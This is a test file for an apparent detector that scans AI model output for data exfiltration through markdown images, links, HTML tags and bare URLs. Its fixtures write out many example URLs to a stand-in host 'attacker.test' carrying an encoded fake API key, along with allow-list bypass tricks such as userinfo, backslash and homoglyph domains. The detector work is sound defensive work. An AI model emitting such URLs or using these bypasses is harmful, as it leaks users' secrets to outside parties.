"""Exfiltration through URLs in model output: markdown, HTML, bare URLs; data-carrying vs plain."""

from __future__ import annotations

import base64

import pytest

from ztgate.detect.exfil import ExfilDetector, data_signals, looks_encoded

SECRET = base64.b64encode(b"the user's api key is sk-live-1234567890abcdef").decode()


@pytest.fixture(scope="module")
def detector() -> ExfilDetector:
    return ExfilDetector(["example.com", "*.corp.internal", "https://Docs.Vendor.io/"])


def found(detector: ExfilDetector, text: str) -> list[tuple[str, str]]:
    return [(f.type, text[f.start : f.end]) for f in detector.scan(text, "output")]


def test_markdown_image_carrying_data(detector: ExfilDetector) -> None:
    url = f"https://attacker.test/pixel.png?d={SECRET}"
    text = f"Sure! ![loading]({url}) Here is the answer."
    (finding,) = detector.scan(text, "output")
    assert (finding.type, text[finding.start : finding.end]) == ("markdown_image_exfil", url)
    assert finding.detector == "exfil"
    assert finding.severity == "high"
    assert finding.redactable is True
    assert 0.5 < finding.score <= 1.0


def test_markdown_link_carrying_data_is_medium(detector: ExfilDetector) -> None:
    url = f"https://attacker.test/c?q={SECRET}"
    (finding,) = detector.scan(f"[click here]({url} \"title\")", "output")
    assert finding.type == "link_exfil"
    assert finding.severity == "medium"


def test_reference_style_image_and_link(detector: ExfilDetector) -> None:
    img = f"https://attacker.test/{SECRET}.png"
    link = f"https://attacker.test/x?data={SECRET}"
    text = f"See ![chart][c1] and [the docs][d].\n\n[c1]: {img}\n  [D]: <{link}> \"t\"\n"
    assert sorted(found(detector, text)) == [("link_exfil", link), ("markdown_image_exfil", img)]


def test_reference_style_collapsed_and_shortcut_images(detector: ExfilDetector) -> None:
    img = f"https://attacker.test/p?d={SECRET}"
    for usage in ("![logo][]", "![logo]"):
        text = f"{usage}\n\n[logo]: {img}\n"
        assert found(detector, text) == [("markdown_image_exfil", img)], usage


@pytest.mark.parametrize(
    "html, kind",
    [
        ('<img src="{u}" alt="x">', "html_image_exfil"),
        ("<IMG SRC='{u}'>", "html_image_exfil"),
        ("<img width=1 src={u}>", "html_image_exfil"),
        ('<iframe src="{u}"></iframe>', "html_image_exfil"),
        ('<a class="x" href="{u}">click</a>', "link_exfil"),
    ],
)
def test_html(detector: ExfilDetector, html: str, kind: str) -> None:
    url = f"https://attacker.test/log?u=alice&k={SECRET}"
    text = "text " + html.format(u=url) + " more"
    assert found(detector, text) == [(kind, url)]


def test_html_srcset_checks_every_candidate(detector: ExfilDetector) -> None:
    a = f"//attacker.test/a.png?x={SECRET}"
    b = f"https://attacker.test/b.png?x={SECRET}"
    text = f'<img srcset="{a} 1x, {b} 2x">'
    assert found(detector, text) == [("html_image_exfil", a), ("html_image_exfil", b)]


def test_bare_url_with_data_is_a_link(detector: ExfilDetector) -> None:
    url = f"https://attacker.test/collect?payload={SECRET}"
    assert found(detector, f"Open {url}.") == [("link_exfil", url)]
    www = f"www.attacker.test/collect?payload={SECRET}"
    assert found(detector, f"or {www}, then") == [("link_exfil", www)]


def test_plain_url_to_unlisted_domain_is_low(detector: ExfilDetector) -> None:
    text = "Docs: https://other.test/guide and ![logo](https://cdn.other.test/logo.png)"
    findings = detector.scan(text, "output")
    assert [(f.type, f.severity, f.redactable) for f in findings] == [("url_to_unlisted_domain", "low", False)] * 2


@pytest.mark.parametrize(
    "url",
    [
        f"https://example.com/p.png?d={SECRET}",
        f"https://img.example.com/p.png?d={SECRET}",
        f"https://a.b.corp.internal/x?d={SECRET}",
        f"https://docs.vendor.io/x?d={SECRET}",
        f"HTTPS://EXAMPLE.COM./x?d={SECRET}",
    ],
)
def test_allowed_domains_and_their_subdomains(detector: ExfilDetector, url: str) -> None:
    assert detector.scan(f"![x]({url})", "output") == []


@pytest.mark.parametrize(
    "url",
    [
        f"https://example.com.attacker.test/?d={SECRET}",  # allowed name as a prefix
        f"https://notexample.com/?d={SECRET}",  # allowed name as a suffix without a dot
        f"https://example.com@attacker.test/?d={SECRET}",  # userinfo
        f"https://attacker.test\\@example.com/?d={SECRET}",  # browsers read "\" as "/"
        f"https://ex\u0430mple.com/?d={SECRET}",  # Cyrillic a
    ],
)
def test_lookalikes_of_allowed_domains_are_not_allowed(detector: ExfilDetector, url: str) -> None:
    (finding,) = detector.scan(f"![x]({url})", "output")
    assert finding.type == "markdown_image_exfil"


@pytest.mark.parametrize(
    "url, reason",
    [
        ("https://t.test/i.png?d=c2stbGl2ZS0xMjM0NTY3OA==", "encoded_value"),
        ("https://t.test/i.png?d=c2stbGl2ZS0xMjM0NTY3OA%3D%3D", "encoded_value"),
        ("https://t.test/i.png?d=9f86d081884c7d659a2feaa0", "encoded_value"),
        ("https://t.test/i.png?q=" + "a" * 40, "long_value"),
        ("https://t.test/i.png?a=1&b=2&c=3&d=4&e=5", "many_params"),
        (f"https://t.test/{SECRET}/i.png", "path"),
        ("https://t.test/" + "x" * 60, "path"),
        ("https://" + "a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8" + ".t.test/i.png", "subdomain"),
        ("https://aliceandbob:hunter2hunter2@t.test/", "userinfo"),
        ("https://t.test/i.png?q=" + "%41" * 40, "long_value"),
    ],
)
def test_data_signals(url: str, reason: str) -> None:
    host, reasons = data_signals(url)
    assert host is not None
    assert reason in reasons


@pytest.mark.parametrize(
    "url",
    [
        "https://t.test/",
        "https://t.test/docs/getting-started/installation.html",
        "https://t.test/search?q=python+unit+tests&lang=en",
        "https://t.test/watch?v=dQw4w9WgXcQ",
        "https://www.t.test/a/b/c?page=2",
    ],
)
def test_ordinary_urls_carry_no_data(url: str) -> None:
    assert data_signals(url)[1] == []


def test_not_web_urls() -> None:
    assert data_signals("mailto:a@b.c")[0] is None
    assert data_signals("javascript:alert(1)")[0] is None
    assert data_signals("relative/path?x=1")[0] is None


def test_looks_encoded() -> None:
    assert looks_encoded(SECRET, 16)
    assert looks_encoded("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", 16)
    assert not looks_encoded("getting-started", 8)
    assert not looks_encoded("aaaaaaaaaaaaaaaaaaaaaaaa", 16)
    assert not looks_encoded("short", 16)


def test_code_comments_and_relative_links_are_not_urls(detector: ExfilDetector) -> None:
    text = "x = 1 // comment\n//TODO fix\n[rel](docs/a.md?x=" + SECRET + ") a//b"
    assert detector.scan(text, "output") == []


def test_nested_image_in_link(detector: ExfilDetector) -> None:
    img = f"https://attacker.test/i.png?d={SECRET}"
    link = f"https://attacker.test/go?d={SECRET}"
    text = f"[![badge]({img})]({link})"
    assert found(detector, text) == [("markdown_image_exfil", img), ("link_exfil", link)]


def test_url_inside_url_is_one_url(detector: ExfilDetector) -> None:
    url = f"https://attacker.test/r?to=https://www.other.test/x&d={SECRET}"
    assert found(detector, url) == [("link_exfil", url)]


def test_no_urls_fast_path(detector: ExfilDetector) -> None:
    assert detector.scan("no links here, just text [a](b) <b>bold</b>", "output") == []
    assert detector.scan("", "output") == []


def test_empty_allow_list_reports_everything() -> None:
    d = ExfilDetector([])
    assert [f.type for f in d.scan("https://example.com/", "output")] == ["url_to_unlisted_domain"]
    assert ExfilDetector(None).allowed_domains == frozenset()
